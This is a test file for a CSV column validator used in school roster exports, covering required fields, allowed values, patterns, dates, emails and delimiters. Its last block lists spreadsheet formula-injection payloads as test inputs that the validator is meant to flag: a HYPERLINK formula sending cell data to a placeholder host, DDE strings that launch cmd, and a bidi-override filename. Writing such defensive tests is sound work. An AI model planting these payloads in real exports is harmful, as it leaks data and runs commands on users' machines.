import { describe, expect, it } from 'vitest';
import { compileColumnCheck, type ValueProblem } from '../../src/pipeline/value-rules.js';
import { DEFAULT_DIALECT, type ColumnDef, type ColumnRule, type Dialect } from '../../src/shared/format.js';

const NO_QUOTES: Dialect = { ...DEFAULT_DIALECT, quoting: 'never' };

function col(rule?: ColumnRule, required = false, name = 'col'): ColumnDef {
  return { name, required, rule };
}

function check(column: ColumnDef, value: string, dialect: Dialect = DEFAULT_DIALECT, opts?: Parameters<typeof compileColumnCheck>[2]): ValueProblem[] {
  const problems: ValueProblem[] = [];
  compileColumnCheck(column, dialect, opts)(value, problems);
  return problems;
}

describe('required', () => {
  it('a blank required value is an error saying the vendor rejects the row', () => {
    for (const blank of ['', '   ', '\t']) {
      expect(check(col(undefined, true), blank)).toEqual([
        { rule: 'required', severity: 'error', message: 'required; the vendor rejects rows without it' },
      ]);
    }
  });

  it('a blank optional value passes every other rule', () => {
    const rule: ColumnRule = { allowed: ['M', 'F'], pattern: '\\d+', kind: 'email', multi: { separator: ',', maxCount: 1 } };
    expect(check(col(rule, false), '')).toEqual([]);
  });

  it('opts.required overrides the column (e.g. password optional under Google sign-in)', () => {
    expect(check(col(undefined, true), '', DEFAULT_DIALECT, { required: false })).toEqual([]);
    expect(check(col(undefined, false), '', DEFAULT_DIALECT, { required: true })).toHaveLength(1);
  });

  it('a present value with no rules has no problems; leading zeros are fine', () => {
    expect(check(col(undefined, true), '000123')).toEqual([]);
  });
});

describe('allowed values', () => {
  const gender = col({ allowed: ['M', 'F'] });

  it('accepts allowed values, compared exactly', () => {
    expect(check(gender, 'M')).toEqual([]);
    expect(check(gender, 'F')).toEqual([]);
  });

  it('rejects other values, listing what is allowed', () => {
    const p = check(gender, 'Male');
    expect(p).toHaveLength(1);
    expect(p[0]).toMatchObject({ rule: 'allowed', severity: 'error' });
    expect(p[0].message).toBe('"Male" is not allowed; expected one of M, F');
  });

  it('hints when a value differs only in case', () => {
    const p = check(gender, 'm');
    expect(p[0].message).toContain('expected one of M, F');
    expect(p[0].message).toContain('did you mean "M"?');
  });

  it('a single allowed value reads naturally', () => {
    expect(check(col({ allowed: ['student'] }), 'teacher')[0].message).toBe('"teacher" is not allowed; expected student');
  });

  it('long lists are shortened in the message', () => {
    const many = Array.from({ length: 40 }, (_, i) => `v${i}`);
    const msg = check(col({ allowed: many }), 'nope')[0].message;
    expect(msg).toContain('v0, v1');
    expect(msg).toContain('(40 in all)');
    expect(msg).not.toContain('v39');
  });

  it('with multi, every part must be allowed and the bad parts are named', () => {
    const grades = col({ allowed: ['KG', '01', '02'], multi: { separator: ',' } });
    expect(check(grades, 'KG,01')).toEqual([]);
    const p = check(grades, 'KG,K,1');
    expect(p).toHaveLength(1);
    expect(p[0].message).toBe('"K", "1" are not allowed; expected one of KG, 01, 02');
  });

  it('an empty allowed list means no constraint', () => {
    expect(check(col({ allowed: [] }), 'anything')).toEqual([]);
  });
});

describe('pattern', () => {
  const ssid = col({ pattern: '^\\d{10}$', patternLabel: 'a 10-digit state ID' });

  it('a 10-digit SSID matches, including leading zeros', () => {
    expect(check(ssid, '0123456789')).toEqual([]);
  });

  it('a 9-digit SSID is an error that says what was expected', () => {
    const p = check(ssid, '123456789');
    expect(p).toEqual([
      { rule: 'pattern', severity: 'error', message: '"123456789" does not match; expected a 10-digit state ID (pattern ^\\d{10}$)' },
    ]);
  });

  it('the pattern must match the whole value even without anchors', () => {
    const digits = col({ pattern: '\\d{3}' });
    expect(check(digits, '123')).toEqual([]);
    const p = check(digits, '12345');
    expect(p).toHaveLength(1);
    expect(p[0].message).toBe('"12345" does not match; expected a value matching the pattern \\d{3}');
    expect(check(col({ pattern: 'a|b' }), 'ab')).toHaveLength(1);
    expect(check(col({ pattern: 'a|b' }), 'b')).toEqual([]);
  });

  it('with multi, each part must match', () => {
    const ids = col({ pattern: '[A-Z]\\d+', multi: { separator: ',' } });
    expect(check(ids, 'A1,B22')).toEqual([]);
    expect(check(ids, 'A1,b2,C')[0].message).toContain('"b2", "C" do not match');
  });

  it('an invalid pattern fails when the check is compiled', () => {
    expect(() => compileColumnCheck(col({ pattern: '(' }), DEFAULT_DIALECT)).toThrow(/pattern \/\(\/ is not a valid regular expression/);
  });
});

describe('maxLength', () => {
  const name = col({ maxLength: 60 });

  it('61 characters is a warning that the vendor truncates after 60', () => {
    expect(check(name, 'x'.repeat(60))).toEqual([]);
    expect(check(name, 'x'.repeat(61))).toEqual([
      { rule: 'length', severity: 'warning', message: '61 characters; the vendor truncates after 60' },
    ]);
  });

  it('counts characters, not UTF-16 units', () => {
    const short = col({ maxLength: 3 });
    expect(check(short, '😀😀😀')).toEqual([]);
    expect(check(short, 'Zoë')).toEqual([]);
    expect(check(short, '😀😀😀😀')[0].message).toBe('4 characters; the vendor truncates after 3');
  });
});

describe('multi', () => {
  const agents = col({ multi: { separator: ',', maxCount: 6 } });

  it('at most maxCount values', () => {
    expect(check(agents, 'G1,G2,G3,G4,G5,G6')).toEqual([]);
    expect(check(agents, 'G1,G2,G3,G4,G5,G6,G7')).toEqual([
      { rule: 'max-count', severity: 'error', message: '7 values; at most 6 allowed (separated by ",")' },
    ]);
  });

  it('empty items between separators are errors', () => {
    const p = check(agents, 'G1,,G2');
    expect(p).toEqual([expect.objectContaining({ rule: 'multi', severity: 'error' })]);
    expect(p[0].message).toMatch(/an empty item/);
    expect(check(agents, ',G1,')[0].message).toMatch(/2 empty items/);
  });

  it('a single value is a list of one', () => {
    expect(check(agents, 'G1')).toEqual([]);
  });
});

describe('kinds', () => {
  describe('email', () => {
    const email = col({ kind: 'email' });
    it.each(['jdoe@district.org', 'j.doe+class@mail.district.k12.ca.us', "o'neil@school.edu", 'A_B-C@X.IO', '0042@d.org'])('accepts %j', (v) => {
      expect(check(email, v)).toEqual([]);
    });
    it.each(['jdoe', 'jdoe@', '@district.org', 'j doe@district.org', 'jdoe@district', 'jdoe@@district.org', '.jdoe@district.org', 'j..doe@district.org', 'jdoe.@district.org', 'jdoe@-district.org', 'jdoe@district.org.', 'josé@district.org', '"jdoe"@district.org', 'jdoe@district.c'])(
      'rejects %j',
      (v) => {
        // "@district.org" also starts like a spreadsheet formula: that is a warning of its own (see hostile values).
        const p = check(email, v).filter((problem) => !(v.startsWith('@') && problem.rule === 'formula'));
        expect(p).toHaveLength(1);
        expect(p[0]).toMatchObject({ rule: 'email', severity: 'error' });
        expect(p[0].message).toContain('expected an email address such as name@school.org');
      },
    );
    it('rejects addresses longer than 254 characters or with a local part over 64', () => {
      const domain = `${'b'.repeat(60)}.${'c'.repeat(60)}.${'d'.repeat(60)}.org`;
      expect(check(email, `${'a'.repeat(64)}@${domain}`)).toEqual([]);
      expect(check(email, `${'a'.repeat(64)}@${'e'.repeat(60)}.${domain}`)).toHaveLength(1);
      expect(check(email, `${'a'.repeat(65)}@district.org`)).toHaveLength(1);
    });
  });

  describe('date', () => {
    const date = col({ kind: 'date' });
    it('accepts real YYYY-MM-DD dates', () => {
      expect(check(date, '2012-03-07')).toEqual([]);
      expect(check(date, '2024-02-29')).toEqual([]);
    });
    it.each(['2023-02-29', '2012-13-01', '2012-3-7', '3/7/2012', '20120307', '2012-03-07T00:00:00Z', '0000-01-01'])('rejects %j', (v) => {
      expect(check(date, v)).toEqual([expect.objectContaining({ rule: 'date', severity: 'error' })]);
      expect(check(date, v)[0].message).toContain('expected a date as YYYY-MM-DD');
    });
  });

  describe('datetime', () => {
    const dt = col({ kind: 'datetime' });
    it.each(['2024-08-15T13:45:00Z', '2024-08-15T13:45:00.123Z', '2024-08-15T13:45Z', '2024-08-15T13:45:00+02:00', '2024-08-15T13:45:00-0500', '2024-08-15T13:45:00'])(
      'accepts %j',
      (v) => {
        expect(check(dt, v)).toEqual([]);
      },
    );
    it.each(['2024-08-15', '2024-08-15 13:45:00', '2024-08-15T24:00:00Z', '2024-08-15T13:60:00Z', '2024-02-30T00:00:00Z', '2024-08-15T13:45:00+25:00', 'yesterday'])(
      'rejects %j',
      (v) => {
        const p = check(dt, v);
        expect(p).toEqual([expect.objectContaining({ rule: 'datetime', severity: 'error' })]);
        expect(p[0].message).toContain('ISO 8601');
      },
    );
  });

  describe('boolean', () => {
    const b = col({ kind: 'boolean' });
    it('accepts only true and false', () => {
      expect(check(b, 'true')).toEqual([]);
      expect(check(b, 'false')).toEqual([]);
      for (const v of ['TRUE', 'True', 'Y', '1', 'yes']) {
        expect(check(b, v)).toEqual([expect.objectContaining({ rule: 'boolean', severity: 'error', message: `"${v}" is not valid; expected true or false` })]);
      }
    });
  });

  describe('year', () => {
    const y = col({ kind: 'year' });
    it('accepts YYYY', () => {
      expect(check(y, '2025')).toEqual([]);
    });
    it.each(['25', '2025-26', '02025', 'two', '0000'])('rejects %j', (v) => {
      expect(check(y, v)).toEqual([expect.objectContaining({ rule: 'year', message: `"${v}" is not valid; expected a 4-digit year (YYYY)` })]);
    });
  });

  it('with multi, each part is checked', () => {
    const emails = col({ kind: 'email', multi: { separator: ';' } });
    expect(check(emails, 'a@b.org;c@d.org')).toEqual([]);
    expect(check(emails, 'a@b.org;nope')[0].message).toContain('"nope" is not valid');
  });
});

describe('dialect quoting never', () => {
  const name = col(undefined, true);

  it('values without the delimiter, quotes or line breaks are fine', () => {
    expect(check(name, "O'Brien", NO_QUOTES)).toEqual([]);
    expect(check(name, 'Zoë Núñez', NO_QUOTES)).toEqual([]);
  });

  it('a comma is an error', () => {
    const p = check(name, 'Smith, Jr.', NO_QUOTES);
    expect(p).toHaveLength(1);
    expect(p[0]).toMatchObject({ rule: 'no-quotes', severity: 'error' });
    expect(p[0].message).toMatch(/^contains a comma; this vendor forbids quoted fields/);
  });

  it('a double quote and a line break are errors, listed together', () => {
    expect(check(name, '"Bubba"', NO_QUOTES)[0].message).toMatch(/^contains a double quote; this vendor forbids quoted fields/);
    expect(check(name, 'line\r\nbreak', NO_QUOTES)[0].message).toMatch(/^contains a line break;/);
    expect(check(name, 'cr\ronly', NO_QUOTES)[0].message).toMatch(/^contains a line break;/);
    expect(check(name, '"Smith, Jr."\n', NO_QUOTES)[0].message).toMatch(/^contains a comma, a double quote and a line break;/);
  });

  it('names the dialect delimiter', () => {
    const tab: Dialect = { ...NO_QUOTES, delimiter: '\t' };
    expect(check(name, 'a\tb', tab)[0].message).toMatch(/^contains a tab;/);
    expect(check(name, 'a,b', tab)).toEqual([]);
    expect(check(name, 'a|b', { ...NO_QUOTES, delimiter: '|' })[0].message).toMatch(/^contains a vertical bar/);
    expect(check(name, 'a;b', { ...NO_QUOTES, delimiter: ';' })[0].message).toMatch(/^contains a semicolon;/);
    expect(check(name, 'a~b', { ...NO_QUOTES, delimiter: '~' })[0].message).toMatch(/^contains the delimiter "~";/);
  });

  it('auto and always quoting accept any content', () => {
    expect(check(name, '"Smith, Jr."\n', DEFAULT_DIALECT)).toEqual([]);
    expect(check(name, '"Smith, Jr."\n', { ...DEFAULT_DIALECT, quoting: 'always' })).toEqual([]);
  });
});

describe('several rules on one value', () => {
  it('reports every failing rule once', () => {
    const c = col({ maxLength: 5, allowed: ['A', 'B'], pattern: '[A-Z]' }, true);
    const p = check(c, 'toolong,value', NO_QUOTES);
    expect(p.map((x) => x.rule)).toEqual(['no-quotes', 'length', 'allowed', 'pattern']);
  });

  it('a compiled check is reusable across values', () => {
    const fn = compileColumnCheck(col({ allowed: ['Y', 'N'] }, true), DEFAULT_DIALECT);
    const problems: ValueProblem[] = [];
    for (const v of ['Y', 'N', 'Y', '']) fn(v, problems);
    expect(problems.map((p) => p.rule)).toEqual(['required']);
    fn('yes', problems);
    expect(problems.map((p) => p.rule)).toEqual(['required', 'allowed']);
  });
});

describe('vendor columns from formats.md', () => {
  it('demographics: SSID, email, gender and Y/N flags', () => {
    const ssid = col({ pattern: '\\d{10}', patternLabel: 'a 10-digit state ID' });
    const email = col({ kind: 'email' });
    const gender = col({ allowed: ['M', 'F'] });
    const flag = col({ allowed: ['Y', 'N'] });
    expect(check(ssid, '0012345678')).toEqual([]);
    expect(check(ssid, '012345678')[0].message).toContain('expected a 10-digit state ID');
    expect(check(email, 'student@district.org')).toEqual([]);
    expect(check(gender, 'X')[0].message).toBe('"X" is not allowed; expected one of M, F');
    expect(check(flag, 'Yes')[0].message).toBe('"Yes" is not allowed; expected one of Y, N');
  });

  it('OneRoster users: grades codes, orgSourcedIds, agentSourcedIds', () => {
    const grades = col({
      allowed: ['IT', 'PR', 'PK', 'TK', 'KG', '01', '02', '03', '04', '05', '06', '07', '08', '09', '10', '11', '12', '13', 'PS', 'UG', 'Other'],
      multi: { separator: ',' },
    });
    expect(check(grades, '09')).toEqual([]);
    expect(check(grades, '9')[0].message).toMatch(/^"9" is not allowed; expected one of IT, PR, PK/);
    expect(check(grades, 'K')[0].rule).toBe('allowed');
    const agents = col({ multi: { separator: ',', maxCount: 6 } });
    expect(check(agents, 'g1,g2,g3,g4,g5,g6,g7')[0].rule).toBe('max-count');
  });

  it('five-file set: school_name at most 60 characters and no quotes anywhere', () => {
    const schoolName = col({ maxLength: 60 }, true);
    const p = check(schoolName, `"${'Roosevelt'.repeat(6)}", Annex`, NO_QUOTES);
    expect(p.map((x) => [x.rule, x.severity])).toEqual([
      ['no-quotes', 'error'],
      ['length', 'warning'],
    ]);
  });
});

describe('hostile values (every column of every format)', () => {
  const plain = col();

  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"Click")', '"="'],
    ['+cmd|\' /C calc\'!A0', '"+"'],
    ['-2+3+cmd|\' /C calc\'!A0', '"-"'],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', '"@"'],
    ['\t=1+1', 'a tab'],
    ['\r=1+1', 'a carriage return'],
  ])('flags the formula %j as a warning naming its first character', (value, shown) => {
    expect(check(plain, value)).toEqual([
      expect.objectContaining({ rule: 'formula', severity: 'warning', message: expect.stringContaining(`starts with ${shown}, which a spreadsheet runs as a formula`) }),
    ]);
  });

  it.each(['-5', '-12.5', '+1 555 010 0199', '+1 (503) 555-0100', '+44 20 7946 0958', '-', '1+1', 'a=b', 'O@Neil'])('leaves the signed number or phone %j alone', (value) => {
    expect(check(plain, value)).toEqual([]);
  });

  it('says the value is written neutralised when the destination neutralises formulas', () => {
    expect(check(plain, '=1+1', DEFAULT_DIALECT, { neutraliseFormulas: true })[0]!.message).toBe(
      "starts with \"=\", which a spreadsheet runs as a formula; written with a leading ' (neutraliseFormulas) so it shows as text",
    );
  });

  it.each([
    ['Ann\u0000Lee', 'control-character', 'contains U+0000 NUL at character 4'],
    ['Ann\u0007\u0007', 'control-character', 'contains U+0007 BELL at character 4 (and 1 more)'],
    ['Ann\u001bLee', 'control-character', 'contains U+001B ESCAPE at character 4'],
    ['Ann\u0085', 'control-character', 'contains U+0085 C1 CONTROL at character 4'],
    ['Ann\u007f', 'control-character', 'contains U+007F DELETE at character 4'],
    ['evil\u202Egpj.exe', 'bidi-override', 'contains U+202E RIGHT-TO-LEFT OVERRIDE at character 5'],
    ['x\u2066y\u2069', 'bidi-override', 'contains U+2066 LEFT-TO-RIGHT ISOLATE at character 2 (and 1 more)'],
    ['Rodr\uFFFDguez', 'lost-character', 'contains U+FFFD REPLACEMENT CHARACTER at character 5'],
  ])('flags %j as an error naming the code point', (value, rule, message) => {
    const p = check(plain, value);
    expect(p).toEqual([expect.objectContaining({ rule, severity: 'error' })]);
    expect(p[0]!.message.startsWith(message)).toBe(true);
  });

  it('reports each kind once per value, and a formula start besides', () => {
    expect(check(plain, '=\u0000\u202E').map((p) => p.rule)).toEqual(['formula', 'control-character', 'bidi-override']);
  });

  it('lets tab, line breaks, accents and non-Latin scripts through', () => {
    for (const value of ['Ann\tLee', 'Algebra\r\nI', 'Zoë Núñez', 'JOÃO', 'محمد', '李小龍', 'Ꮳ']) expect(check(plain, value), value).toEqual([]);
  });

  it('warns about accents garbled by a Windows-1252 decoding, with the repaired spelling', () => {
    expect(check(plain, 'RodrÃ­guez')).toEqual([
      {
        rule: 'mojibake',
        severity: 'warning',
        message: '"Ã\u00AD" looks like UTF-8 text that was decoded as Windows-1252 (it reads "Rodríguez" when decoded right); correct the value in the SIS or the export step that garbled it',
      },
    ]);
    expect(check(plain, 'JosÃ©')[0]!.message).toContain('(it reads "José" when decoded right)');
  });
});
